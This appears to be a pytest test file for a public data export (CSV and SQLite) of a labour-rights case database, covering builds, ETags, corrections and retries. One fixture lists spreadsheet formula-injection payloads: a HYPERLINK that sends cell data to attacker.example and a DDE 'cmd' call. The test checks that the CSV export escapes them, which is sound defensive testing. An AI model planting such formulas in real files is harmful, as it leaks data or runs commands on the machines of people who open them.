"""The bulk export: built by the Celery task once a change commits, every public table as CSV and as
one SQLite database, served with validators, with a changelog of corrections."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import sqlite3
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import OperationalError
from django.utils import timezone
from rest_framework.test import APIClient

from public import services
from public.export import SQLITE_NAME, tables
from public.models import Correction, ExportBuild
from public.tasks import build_public_export, resume_export_builds
from rrm.models import Case, Deadline, TimelineEvent
from tests.factories import CaseFactory
from tests.public.conftest import CASES_CSV, committed, csv_table

pytestmark = pytest.mark.usefixtures("generous_budget")
EXPORT = "/api/v1/public/export/"


def ready_build() -> ExportBuild:
    build = services.latest_ready_build()
    assert build is not None
    return build


def export_path(name: str) -> Path:
    return services.export_root() / ready_build().directory / name


def csv_rows(name: str) -> list[dict[str, str]]:
    with export_path(name).open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def sqlite_count(table: str) -> int:
    database = sqlite3.connect(export_path(SQLITE_NAME))
    try:
        (count,) = database.execute(f'SELECT COUNT(*) FROM "{table}"').fetchone()
        return int(count)
    finally:
        database.close()


def test_it_builds_the_export_once_a_change_commits(db: None) -> None:
    with committed():
        CaseFactory()
        assert not ExportBuild.objects.exists(), "nothing is asked for before the commit"

    build = ready_build()
    assert build.status == ExportBuild.Status.READY
    assert {entry["name"] for entry in build.files} == {
        *(f"{table.name}.csv" for table in tables()),
        SQLITE_NAME,
        "metadata.json",
    }


def test_it_asks_for_one_build_for_a_burst_of_changes(db: None) -> None:
    with committed():
        for _ in range(5):
            CaseFactory()

    assert ExportBuild.objects.count() == 1


def test_it_does_not_queue_a_second_build_while_one_waits(db: None) -> None:
    first = services.request_export_build()

    second = services.request_export_build()

    assert first is not None and first.status == ExportBuild.Status.PENDING
    assert second is None


@pytest.mark.usefixtures("imported_cases")
def test_it_writes_every_table_with_the_same_rows_to_csv_and_sqlite() -> None:
    expected = {
        "cases": Case.objects.count(),
        "events": TimelineEvent.objects.count(),
        "deadlines": Deadline.objects.count(),
    }

    for table, count in expected.items():
        assert len(csv_rows(f"{table}.csv")) == count
        assert sqlite_count(table) == count
    for table in tables():
        assert len(csv_rows(f"{table.name}.csv")) == sqlite_count(table.name)


@pytest.mark.usefixtures("imported_cases")
def test_it_exports_deadline_verdicts_and_explanations_with_unconfirmed_rules_marked() -> None:
    rows = {row["case_id"]: row for row in csv_rows("deadlines.csv") if row["rule"] == "ilc_screening"}

    san_martin = rows["us-mx-2023-san-martin-mine"]
    assert san_martin["verdict"] == "late"
    assert san_martin["days_late"] == "2"
    assert san_martin["explanation"].startswith("30 calendar days from petition_received on 2023-05-15")
    assert {row["unconfirmed"] for row in csv_rows("deadlines.csv") if row["confidence"] == "U"} <= {"1"}


@pytest.mark.usefixtures("imported_cases")
def test_it_describes_every_table_and_column_for_datasette() -> None:
    metadata = json.loads(export_path("metadata.json").read_text(encoding="utf-8"))

    described = metadata["databases"]["rrm-public"]["tables"]
    assert set(described) == {table.name for table in tables()}
    for table in tables():
        assert set(described[table.name]["columns"]) == {column.name for column in table.columns}


@pytest.mark.usefixtures("imported_cases")
def test_it_lists_the_files_and_serves_each_with_its_sha256_as_etag(api: APIClient) -> None:
    index = api.get(EXPORT).json()
    entry = next(item for item in index["files"] if item["name"] == "cases.csv")

    response = api.get(entry["url"])
    again = api.get(entry["url"], HTTP_IF_NONE_MATCH=response["ETag"])

    assert response.status_code == 200
    assert response["ETag"] == f'"{entry["sha256"]}"'
    assert b"".join(response.streaming_content).count(b"\n") == entry["rows"] + 1
    assert again.status_code == 304
    assert index["rebuilding"] is False


def test_it_answers_404_naming_a_file_not_in_the_export(api: APIClient, db: None) -> None:
    response = api.get(EXPORT + "passwords.csv")

    assert response.status_code == 404
    assert "passwords.csv" in response.json()["detail"]


FORMULAS = {
    "name": '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
    "city": "+1-1@SUM(A1)",
    "operator": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def sqlite_row(query: str, *parameters: object) -> tuple[object, ...]:
    database = sqlite3.connect(export_path(SQLITE_NAME))
    try:
        return tuple(database.execute(query, parameters).fetchone())
    finally:
        database.close()


def test_it_escapes_formulas_in_the_export_csv_as_the_api_csv_does_and_keeps_them_raw_in_sqlite(
    api: APIClient, db: None
) -> None:
    with committed():
        case = CaseFactory(
            facility__name=FORMULAS["name"],
            facility__city=FORMULAS["city"],
            facility__operator__name=FORMULAS["operator"],
        )
    facility = case.facility

    exported = next(row for row in csv_rows("facilities.csv") if row["id"] == str(facility.pk))
    case_row = next(row for row in csv_rows("cases.csv") if row["case_id"] == case.case_id)
    company_row = next(row for row in csv_rows("companies.csv") if row["id"] == str(facility.operator_id))
    answered = api.get("/api/v1/public/facilities/", {"format": "csv"})
    listed = csv_table(answered)[0]

    assert (exported["name"], exported["city"]) == ("'" + FORMULAS["name"], "'" + FORMULAS["city"])
    assert (case_row["facility_name"], case_row["company_name"]) == (
        "'" + FORMULAS["name"],
        "'" + FORMULAS["operator"],
    )
    assert company_row["name"] == "'" + FORMULAS["operator"]
    assert (listed["name"], listed["city"]) == (exported["name"], exported["city"])
    assert exported["state"] == "GUA" and exported["headcount"] == ""
    assert sqlite_row("SELECT name, city FROM facilities WHERE id = ?", facility.pk) == (
        FORMULAS["name"],
        FORMULAS["city"],
    )
    assert sqlite_row("SELECT name FROM companies WHERE id = ?", facility.operator_id) == (
        FORMULAS["operator"],
    )


def test_it_lists_timeline_and_written_corrections_in_the_changelog(
    api: APIClient, imported_cases: None, tmp_path: Path
) -> None:
    events = CASES_CSV.with_name("events.csv").read_text(encoding="utf-8")
    receipt = "us-mx-2023-asiaway-slp,petition_received,2023-09-20,"
    assert events.count(receipt) == 1, "Asiaway's receipt in events.csv"
    corrected_file = tmp_path / "cases.csv"
    corrected_file.write_text(CASES_CSV.read_text(encoding="utf-8"), encoding="utf-8")
    (tmp_path / "events.csv").write_text(events.replace(receipt, receipt.replace("-20,", "-21,")))
    with committed():
        call_command("import_cases", str(corrected_file), stdout=io.StringIO(), stderr=io.StringIO())
        Correction.objects.create(
            case=Case.objects.get(case_id="us-mx-2021-tridonex"),
            field="backpay_usd",
            previous_value="60000",
            corrected_value="600000",
            reason="A zero was missing; USTR release of 2021-08-10.",
        )

    listed = api.get("/api/v1/public/corrections/").json()["results"]
    exported = csv_rows("corrections.csv")

    timeline = next(item for item in listed if item["kind"] == "timeline")
    assert timeline["case"] == "us-mx-2023-asiaway-slp"
    assert (timeline["previous_value"], timeline["corrected_value"]) == ("2023-09-20", "2023-09-21")
    assert any(item["kind"] == "record" and item["corrected_value"] == "600000" for item in listed)
    assert {row["kind"] for row in exported} == {"timeline", "record"}


def test_it_puts_a_build_back_in_the_queue_when_the_database_connection_fails(
    db: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    build = ExportBuild.objects.create()

    def lost_connection(directory: Path) -> list[dict[str, object]]:
        raise OperationalError("server closed the connection unexpectedly")

    monkeypatch.setattr("public.services.write_export", lost_connection)
    with pytest.raises(OperationalError):
        build_public_export.apply(args=[build.pk], throw=True)

    build.refresh_from_db()
    assert build.status == ExportBuild.Status.PENDING
    assert not any(services.export_root().glob(".*.partial"))


def test_it_marks_a_build_failed_with_the_reason_on_a_file_error(
    db: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    build = ExportBuild.objects.create()

    def disk_full(directory: Path) -> list[dict[str, object]]:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("public.services.write_export", disk_full)
    with pytest.raises(OSError):
        services.build_export(build_id=build.pk)

    build.refresh_from_db()
    assert build.status == ExportBuild.Status.FAILED
    assert "No space left on device" in build.error


def test_it_keeps_the_files_of_the_two_newest_builds_only(db: None) -> None:
    directories = []
    for _ in range(3):
        with committed():
            CaseFactory()
        directories.append(ready_build().directory)

    kept = sorted(path.name for path in services.export_root().iterdir())
    assert kept == sorted(directories[1:])
    assert ExportBuild.objects.filter(directory="").count() == 1


def test_it_leaves_a_claimed_build_to_the_worker_that_claimed_it(db: None) -> None:
    build = ExportBuild.objects.create(
        status=ExportBuild.Status.BUILDING, started_at=dt.datetime.now(tz=dt.UTC)
    )

    result = services.build_export(build_id=build.pk)

    assert result.status == ExportBuild.Status.BUILDING
    assert not services.export_root().exists()


def test_it_enqueues_again_a_build_whose_task_was_lost(db: None) -> None:
    lost = ExportBuild.objects.create()
    ExportBuild.objects.filter(pk=lost.pk).update(requested_at=timezone.now() - dt.timedelta(minutes=5))

    with committed():
        resumed = resume_export_builds.apply().get()

    lost.refresh_from_db()
    assert resumed == [lost.pk]
    assert lost.status == ExportBuild.Status.READY


def test_it_leaves_a_build_just_requested_to_its_own_task(db: None) -> None:
    ExportBuild.objects.create()

    with committed():
        resumed = resume_export_builds.apply().get()

    assert resumed == []
    assert ExportBuild.objects.get().status == ExportBuild.Status.PENDING


def test_it_builds_again_a_build_whose_worker_died(db: None) -> None:
    started = timezone.now() - dt.timedelta(seconds=services.EXPORT_TIME_LIMIT_SECONDS + 60)
    dead = ExportBuild.objects.create(status=ExportBuild.Status.BUILDING, started_at=started)
    running = ExportBuild.objects.create(status=ExportBuild.Status.BUILDING, started_at=timezone.now())

    with committed():
        resume_export_builds.apply().get()

    dead.refresh_from_db()
    running.refresh_from_db()
    assert dead.status == ExportBuild.Status.READY
    assert running.status == ExportBuild.Status.BUILDING
